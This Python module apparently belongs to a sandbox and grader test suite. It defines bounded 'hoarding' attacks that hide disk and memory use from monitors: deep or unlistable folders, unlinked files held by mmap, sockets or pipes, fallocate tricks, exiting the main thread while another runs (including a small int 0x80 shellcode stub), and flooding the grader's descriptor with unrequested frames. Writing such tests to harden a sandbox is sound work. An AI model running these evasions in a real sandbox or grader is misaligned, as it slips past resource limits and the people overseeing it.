"""Hoarding: disk and memory where those who look would not find it.

All of them stop by themselves at a bound that hurts no machine, and boast there.
"""

from __future__ import annotations

from tests.attacks.attack import FULL, Attack
from tests.attacks.harming import LOST, harming

ENDED = (2.0, 0.0, 0.0, 0.0)
"""Where the notebook ends in the cell of `sizes`."""
LIBC = """
import ctypes, mmap, os, platform, socket, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
def mapped(length, protection, flags, descriptor=-1):
    place = libc.mmap(None, length, protection, flags, descriptor, 0)
    if place == ctypes.c_void_p(-1).value: raise PermissionError
    return place
def checked(answer):
    if answer < 0: raise OSError(ctypes.get_errno(), "refused")
    return answer
"""
FILES = """
def write(folder="."):
    try:
        for number in range(16):
            with open(f"{folder}/{number}.dat", "wb") as file: file.write(bytes(3 << 20))
    except OSError:
        time.sleep(1.5)  # whoever looks sees that the disk is full
        raise
"""
SERVING = """
def serve():
    time.sleep(0.4)
    kept = b"x" * (150 << 20)
    time.sleep(0.2)
    open("@OUTSIDE@/notes.txt", "a").write("served")
    os._exit(0)
threading.Thread(target=serve).start()
"""
"""A thread that goes on when the first one has ended. What it says would be left out with its cell."""


def hoarding(
    name: str, mechanism: str, code: str, incident: str | None, **others: object
) -> Attack:
    """An attack after the right answer to `sizes`."""
    points = {None: FULL, "sandbox-refusal": FULL, "crashed": LOST}.get(incident, ENDED)
    what = "the disk" if name.startswith("disk") else "all memory"
    gain = f"{what}, where nobody counts it"
    code = LIBC + FILES + code
    given = {"points": points, "needs": "sandbox", **others}
    return harming(name, mechanism, code, gain, incident, **given)


ATTACKS: tuple[Attack, ...] = (
    hoarding(
        "disk-below-the-longest-path",
        "It writes in a folder that lies deeper than a path may be long.",
        """
for depth in range(30):
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
write()
time.sleep(1.5)
@BOAST@
""",
        "disk-limit",
    ),
    hoarding(
        "disk-in-a-closed-folder",
        "It writes to a folder that can be written to, but not listed.",
        """
os.mkdir("closed", 0o300)
write("closed")
time.sleep(1.5)
@BOAST@
""",
        "disk-limit",
    ),
    hoarding(
        "disk-that-moves",
        "Its files lie in a folder that has another place whenever somebody looks.",
        """
os.makedirs("a/in")
os.mkdir("b")
write("a/in")
end = time.monotonic() + 1.5
while time.monotonic() < end:
    os.rename("a/in", "b/in")
    os.rename("b/in", "a/in")
@BOAST@
""",
        "disk-limit",
    ),
    hoarding(
        "disk-by-one-page",
        "Its files have neither a name nor a descriptor any more: of each one page is mapped.",
        """
for number in range(16):
    file = os.open("x", os.O_RDWR | os.O_CREAT)
    os.write(file, bytes(3 << 20))
    mapped(4096, mmap.PROT_READ, mmap.MAP_SHARED, file)
    os.unlink("x")
    os.close(file)
time.sleep(1.5)
@BOAST@
""",
        "disk-limit",
    ),
    hoarding(
        "disk-in-flight",
        "Its files have no name any more, and their descriptors are in a socket.",
        """
one, two = socket.socketpair()
for number in range(16):
    file = os.open("x", os.O_RDWR | os.O_CREAT)
    os.write(file, bytes(3 << 20))
    os.unlink("x")
    socket.send_fds(one, [b"x"], [file])
    os.close(file)
time.sleep(1.5)
@BOAST@
""",
        "sandbox-refusal",
    ),
    hoarding(
        "disk-of-a-thread",
        "A thread takes a table of open files for itself, where its files without a name are.",
        """
answers = []
def hide():
    if libc.syscall(436, ctypes.c_uint(2**32 - 1), ctypes.c_uint(2**32 - 1), 2) != 0:
        return answers.append("refused")
    for number in range(16):
        file = os.open(f"{number}", os.O_RDWR | os.O_CREAT)
        os.unlink(f"{number}")
        os.write(file, bytes(3 << 20))
    answers.append("done")
    time.sleep(1)
threading.Thread(target=hide).start()
while not answers: time.sleep(0.01)
if answers == ["done"]:
    time.sleep(1.5)
    @BOAST@
""",
        "sandbox-refusal",
        refusable=True,
    ),
    hoarding(
        "disk-at-once",
        "It has the file system set space aside, gigabytes in a moment.",
        """
for number in range(4):
    with open(f"{number}.dat", "wb") as file:
        checked(libc.fallocate(file.fileno(), 0, ctypes.c_long(0), ctypes.c_long(16 << 20)))
@BOAST@
""",
        None,
        refusable=True,
    ),
    hoarding(
        "disk-at-once-without-a-size",
        "It has space set aside behind the end of a file, whose size stays 0.",
        """
with open("x.dat", "wb") as file:
    checked(libc.fallocate(file.fileno(), 1, ctypes.c_long(0), ctypes.c_long(64 << 20)))
    assert os.stat("x.dat").st_size == 0
@BOAST@
""",
        None,
        refusable=True,
    ),
    hoarding(
        "memory-of-a-thread-alone",
        "The first thread ends, and another serves on: what is said of the process is said of a dead one.",
        SERVING
        + 'libc.syscall({"x86_64": 60}.get(platform.machine(), 93), 0)  # exit of this thread alone',
        "crashed",
        effect="change",
    ),
    hoarding(
        "memory-by-another-door",
        "The first thread ends by the door for programs of 32 bits, and another serves on.",
        f"""
if platform.machine() != "x86_64": os.abort()
{SERVING}
page = mapped(4096, 7, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
code = bytes.fromhex("b8 01000000 31db cd80 c3")  # exit(0) by int 0x80
ctypes.memmove(page, code, len(code))
ctypes.CFUNCTYPE(None)(page)()
""",
        "crashed",
        effect="change",
        refusable=True,
    ),
    hoarding(
        "memory-in-sockets",
        "It fills sockets, whose buffers it has made larger.",
        """
pairs = [socket.socketpair() for number in range(100)]
for one, two in pairs:
    one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
    one.setblocking(False)
    try:
        while True: one.send(bytes(1 << 16))
    except BlockingIOError: pass
@BOAST@
""",
        "sandbox-refusal",
    ),
    hoarding(
        "memory-held-by-one-page",
        "It fills memory that could be shared, and lets go of all but one page of it.",
        """
for number in range(3):
    length = 50 << 20
    place = mapped(length, 3, mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
    ctypes.memset(place, 1, length)
    checked(libc.munmap(place + 4096, length - 4096))
time.sleep(0.2)
@BOAST@
""",
        "sandbox-refusal",
    ),
    hoarding(
        "memory-of-zeros",
        "It maps the device of zeros as memory that could be shared, reads it, and lets go of most.",
        """
zeros = os.open("/dev/zero", os.O_RDONLY)
for number in range(3):
    length = 50 << 20
    place = mapped(length, 1, mmap.MAP_SHARED, zeros)
    for offset in range(0, length, 4096): ctypes.c_char.from_address(place + offset).value
    checked(libc.munmap(place + 4096, length - 4096))
time.sleep(0.2)
@BOAST@
""",
        "sandbox-refusal",
    ),
    hoarding(
        "memory-that-the-grader-holds",
        "It sends values that nobody has asked for, as answers to a command that there never was.",
        """
import signal, struct
signal.signal(signal.SIGINT, signal.SIG_IGN)
frames = [n for n in range(200, 300) if os.path.exists(f"/proc/self/fd/{n}")][-1]
frame = struct.pack("<cII", b"v", 7777, 1 << 20) + bytes(1 << 20)
for number in range(200):
    left = memoryview(frame)
    while left: left = left[os.write(frames, left):]
    time.sleep(0.01)
@BOAST@
""",
        "output-limit",
        shown_in="no limits",
        needs=None,
        points=LOST,
    ),
    hoarding(
        "memory-in-pipes",
        "It puts pages into pipes (vmsplice) and lets go of them: the pipes hold them.",
        """
reading, writing = os.pipe()
place = mapped(4096, 3, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
vector = (ctypes.c_size_t * 2)(place, 4096)
checked(libc.vmsplice(writing, vector, ctypes.c_size_t(1), 0))
checked(libc.munmap(place, 4096))
@BOAST@
""",
        "sandbox-refusal",
    ),
)
